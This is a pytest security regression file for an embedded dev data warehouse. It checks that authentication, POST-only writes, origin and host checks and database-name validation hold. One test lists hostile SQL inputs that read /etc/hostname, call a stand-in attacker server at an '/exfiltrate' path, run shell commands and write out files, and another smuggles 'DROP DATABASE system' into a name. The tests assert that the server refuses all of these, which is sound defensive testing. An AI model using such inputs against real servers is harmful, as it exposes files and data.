"""Findings: the embedded (dev-only) warehouse accepted any user, ran DDL from a GET, ran a ``text/plain``
POST from any ``Origin``, accepted any ``Host`` and read local files with ``file()``; the database name
was interpolated into DDL unchecked. Shown against a real server process on 127.0.0.1."""

from __future__ import annotations

import base64
import os
import urllib.error
import urllib.parse
import urllib.request
import uuid
from collections.abc import Iterator
from pathlib import Path

import clickhouse_connect
import pytest
from aiohttp import web
from clickhouse_connect.driver.exceptions import DatabaseError
from pydantic import ValidationError

from liftos.settings import ServiceSettings, WarehouseSettings
from tests.fixtures.warehouse import WarehouseEndpoint, start_warehouse, stop_warehouse
from tests.security.hostile import Servers, hostile

PASSWORD = "Wh-dev-Pw-3f9a1c7e"


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WarehouseEndpoint]:
    """A warehouse process that requires a password (read from LIFTOS_WAREHOUSE__PASSWORD)."""
    previous = os.environ.get("LIFTOS_WAREHOUSE__PASSWORD")
    os.environ["LIFTOS_WAREHOUSE__PASSWORD"] = PASSWORD
    try:
        proc, endpoint = start_warehouse(tmp_path_factory.mktemp("guarded") / "store")
    finally:
        if previous is None:
            del os.environ["LIFTOS_WAREHOUSE__PASSWORD"]
        else:
            os.environ["LIFTOS_WAREHOUSE__PASSWORD"] = previous
    try:
        yield endpoint
    finally:
        stop_warehouse(proc)


def _basic(password: str = PASSWORD) -> dict[str, str]:
    return {"Authorization": "Basic " + base64.b64encode(f"default:{password}".encode()).decode()}


def _send(
    server: WarehouseEndpoint, sql: str, method: str = "POST", headers: dict[str, str] | None = None
) -> tuple[int, str]:
    """Send ``sql`` (in the URL for GET, as a ``text/plain`` body for POST); returns status and body."""
    url = f"http://{server.host}:{server.port}/"
    data = None
    if method == "GET":
        url += "?" + urllib.parse.urlencode({"query": sql})
    else:
        data = sql.encode()
    request = urllib.request.Request(url, data=data, method=method, headers={"Content-Type": "text/plain"})
    for name, value in (headers or {}).items():
        request.add_header(name, value)
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return int(response.status), response.read().decode()
    except urllib.error.HTTPError as error:
        return int(error.code), error.read().decode()


def _exists(server: WarehouseEndpoint, table: str) -> bool:
    status, body = _send(server, f"EXISTS TABLE {table}", headers=_basic())
    assert status == 200, body
    return body.strip() == "1"


def test_a_password_is_required_when_set(guarded: WarehouseEndpoint) -> None:
    assert _send(guarded, "SELECT 1")[0] == 401
    assert _send(guarded, "SELECT 1", headers=_basic("wrong-password"))[0] == 401
    assert (
        _send(guarded, "SELECT 1", headers={"X-ClickHouse-User": "default", "X-ClickHouse-Key": "x"})[0]
        == 401
    )
    assert _send(guarded, "SELECT 1", headers=_basic()) == (200, "1\n")
    client = clickhouse_connect.get_client(host=guarded.host, port=guarded.port, password=PASSWORD)
    assert client.command("SELECT 41 + 1") == 42
    with pytest.raises(DatabaseError, match="AUTHENTICATION_FAILED"):
        clickhouse_connect.get_client(host=guarded.host, port=guarded.port, password="nope").command(
            "SELECT 1"
        )


def test_a_write_needs_a_post(guarded: WarehouseEndpoint) -> None:
    table = f"t_{uuid.uuid4().hex[:12]}"
    status, body = _send(guarded, f"CREATE TABLE {table} (x Int8) ENGINE = Memory", "GET", _basic())
    assert status == 403 and "READONLY" in body and "use method POST" in body
    assert not _exists(guarded, table)
    assert _send(guarded, f"CREATE TABLE {table} (x Int8) ENGINE = Memory", "POST", _basic())[0] == 200
    assert _exists(guarded, table)
    assert _send(guarded, f"SELECT count() FROM {table}", "GET", _basic()) == (200, "0\n")


@pytest.mark.parametrize(
    "headers",
    [
        {"Origin": "http://127.0.0.1:1"},  # a page served by another local port
        {"Origin": "https://evil.example"},
        {"Origin": "null"},  # sandboxed frames, file:// pages
        {"Sec-Fetch-Site": "cross-site"},  # a no-cors request, which carries no Origin
        {"Host": "rebound.evil.example:8123"},  # DNS rebinding
    ],
    ids=["other local port", "other site", "opaque origin", "cross-site fetch", "foreign host"],
)
def test_a_web_page_cannot_use_it(guarded: WarehouseEndpoint, headers: dict[str, str]) -> None:
    """Even with the right password (a browser may have it cached): refused, nothing created."""
    table = f"t_{uuid.uuid4().hex[:12]}"
    status, body = _send(
        guarded, f"CREATE TABLE {table} (x Int8) ENGINE = Memory", "POST", _basic() | headers
    )
    assert status == 403 and "ACCESS_DENIED" in body
    assert not _exists(guarded, table)


def test_its_own_origin_is_served(guarded: WarehouseEndpoint) -> None:
    own = {"Origin": f"http://{guarded.host}:{guarded.port}", "Sec-Fetch-Site": "same-origin"}
    assert _send(guarded, "SELECT 1", headers=_basic() | own) == (200, "1\n")


def test_nothing_outside_the_store_is_reachable(guarded: WarehouseEndpoint, tmp_path: Path) -> None:
    async def attacker_api(request: web.Request, servers: Servers) -> web.StreamResponse:
        del request, servers
        return web.Response(text="1\n")

    outfile = tmp_path / "written.tsv"
    with hostile(attacker_api) as servers:
        attempts = [
            "SELECT * FROM file('/etc/hostname', 'LineAsString')",
            "SELECT file('/etc/hostname')",
            "SELECT `file`('/etc/hostname')",
            "SELECT `\\x66ile`('/etc/hostname')",
            "SELECT * FROM FILE /* comment */ ('/etc/hostname', 'LineAsString')",
            f"SELECT * FROM url('{servers.attacker}/exfiltrate', 'LineAsString')",
            f"SELECT * FROM urlCluster('default', '{servers.attacker}/x', 'LineAsString')",
            "SELECT * FROM s3('http://127.0.0.1:1/bucket/key', 'LineAsString')",
            "SELECT * FROM executable('cat /etc/hostname', 'LineAsString', 'x String')",
            "SELECT * FROM python('anything')",
            "SELECT * FROM remote('127.0.0.1:9000', system.one)",
            f"SELECT 1 INTO OUTFILE '{outfile}'",
            f"INSERT INTO FUNCTION file('{outfile}', 'TSV') SELECT 1",
            "CREATE TABLE t_file (x String) ENGINE = File(TSV, '/etc/hostname')",
            "CREATE DICTIONARY d (x String) PRIMARY KEY x SOURCE(FILE(path '/etc/hostname' format 'TSV'))"
            " LAYOUT(FLAT()) LIFETIME(0)",
            "SELECT 1 SETTINGS format_schema = '/etc/hostname'",
        ]
        answers = {sql: _send(guarded, sql, headers=_basic()) for sql in attempts}
    refused = {
        sql: a for sql, a in answers.items() if a[0] == 403 and "disabled in the dev warehouse" in a[1]
    }
    assert set(refused) == set(attempts), {sql: a for sql, a in answers.items() if sql not in refused}
    assert servers.attacker_seen == []
    assert not outfile.exists()
    hostname = Path("/etc/hostname").read_text().strip()
    assert not any(hostname and hostname in body for _status, body in answers.values())
    # the computing table functions still work
    assert _send(guarded, "SELECT sum(number) FROM numbers(5)", headers=_basic()) == (200, "10\n")


@pytest.mark.parametrize("name", ["liftos`; DROP DATABASE system; --", "x y", "1db", "db-name", "", "a" * 65])
def test_the_database_name_must_be_an_identifier(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(ValidationError, match="not a plain identifier"):
        WarehouseSettings(database=name)
    monkeypatch.setenv("LIFTOS_WAREHOUSE__DATABASE", name or " ")
    with pytest.raises(ValidationError, match="not a plain identifier"):
        ServiceSettings()


def test_plain_database_names_are_accepted() -> None:
    assert WarehouseSettings(database="liftos_dev_2").database == "liftos_dev_2"
